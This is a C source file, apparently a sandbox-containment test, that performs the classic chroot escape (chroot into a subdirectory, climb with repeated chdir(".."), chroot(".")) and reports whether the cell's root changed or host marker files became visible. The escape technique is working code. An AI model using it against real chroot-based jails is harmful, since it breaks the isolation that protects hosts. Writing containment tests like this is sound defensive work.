/* chroot_escape [MARKER_PATH...]: the classic chroot breakout.
 *
 * Attacks: a cell whose root was set with chroot(2) alone. chroot() changes only the
 * process's root directory, not its working directory, and ".." at the root of a chroot is
 * only stopped when a path walk meets the process's root. So: mkdir a directory, chroot()
 * into it without chdir()ing there, chdir("..") many times (the walk never meets the new
 * root and climbs to the top of the mount namespace), then chroot("."). In a cell set up
 * with pivot_root(2) and the old root unmounted, the top of the mount namespace is the cell's
 * root, so the escape lands where it started. Without CAP_SYS_CHROOT chroot() itself fails.
 *
 * The program compares the device and inode of "/" before and after, and looks for each
 * MARKER_PATH (a test can name a file that exists only outside the cell, e.g. a file next to
 * the rootfs on the host, as seen after the escape).
 *
 * Expected in a cell: CONTAINED (chroot=EPERM with capabilities dropped; chroot=OK and the
 * same root when CAP_SYS_CHROOT is kept).
 *
 * Output: RESULT chroot_escape CONTAINED chroot=<errno|OK> root=<major>:<minor>:<ino>
 *         RESULT chroot_escape ESCAPED root_before=<maj:min:ino> root_after=<maj:min:ino> saw=<paths>
 *               top=<first entries of the new />
 *         RESULT chroot_escape <errno> step=<mkdtemp|chroot2> (could not run the check)
 */
#include "hostile.h"

#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>

/* The first few names in "/", comma separated, for the report. */
static void list_root(char *out, size_t size)
{
    out[0] = '\0';
    DIR *d = opendir("/");
    if (!d)
        return;
    struct dirent *e;
    int shown = 0;
    size_t len = 0;
    while ((e = readdir(d)) != NULL && shown < 12) {
        if (strcmp(e->d_name, ".") == 0 || strcmp(e->d_name, "..") == 0)
            continue;
        int n = snprintf(out + len, size - len, "%s%s", shown ? "," : "", e->d_name);
        if (n < 0 || (size_t)n >= size - len)
            break;
        len += (size_t)n;
        shown++;
    }
    closedir(d);
}

int main(int argc, char **argv)
{
    struct stat before, after;
    if (stat("/", &before) < 0) {
        result("chroot_escape", errno_name(errno), "step=stat");
        return 0;
    }

    char dir[] = "/tmp/chroot_escape.XXXXXX";
    if (!mkdtemp(dir)) {
        result("chroot_escape", errno_name(errno), "step=mkdtemp dir=/tmp");
        return 0;
    }
    /* To remove the directory whatever "/" turns out to be afterwards. */
    int tmp_fd = open("/tmp", O_PATH | O_DIRECTORY | O_CLOEXEC);
    const char *base = dir + strlen("/tmp/");
    if (chroot(dir) < 0) {
        int err = errno;
        unlinkat(tmp_fd, base, AT_REMOVEDIR);
        result("chroot_escape", "CONTAINED", "chroot=%s root=%u:%u:%lu", errno_name(err),
               major(before.st_dev), minor(before.st_dev), (unsigned long)before.st_ino);
        return 0;
    }
    /* The working directory is still outside the new root: climb. */
    for (int i = 0; i < 1024; i++)
        if (chdir("..") < 0)
            break;
    if (chroot(".") < 0) {
        result("chroot_escape", errno_name(errno), "step=chroot2");
        return 0;
    }
    if (chdir("/") < 0 || stat("/", &after) < 0) {
        result("chroot_escape", errno_name(errno), "step=stat-after");
        return 0;
    }

    char saw[1024] = "";
    size_t len = 0;
    for (int i = 1; i < argc; i++) {
        if (access(argv[i], F_OK) == 0) {
            int n = snprintf(saw + len, sizeof saw - len, "%s%s", len ? "," : "", argv[i]);
            if (n > 0 && (size_t)n < sizeof saw - len)
                len += (size_t)n;
        }
    }
    char top[512];
    list_root(top, sizeof top);

    unlinkat(tmp_fd, base, AT_REMOVEDIR);
    if (after.st_dev == before.st_dev && after.st_ino == before.st_ino && len == 0) {
        result("chroot_escape", "CONTAINED", "chroot=OK root=%u:%u:%lu", major(before.st_dev),
               minor(before.st_dev), (unsigned long)before.st_ino);
    } else {
        result("chroot_escape", "ESCAPED",
               "root_before=%u:%u:%lu root_after=%u:%u:%lu saw=%s top=%s",
               major(before.st_dev), minor(before.st_dev), (unsigned long)before.st_ino,
               major(after.st_dev), minor(after.st_dev), (unsigned long)after.st_ino,
               len ? saw : "-", top);
    }
    return 0;
}
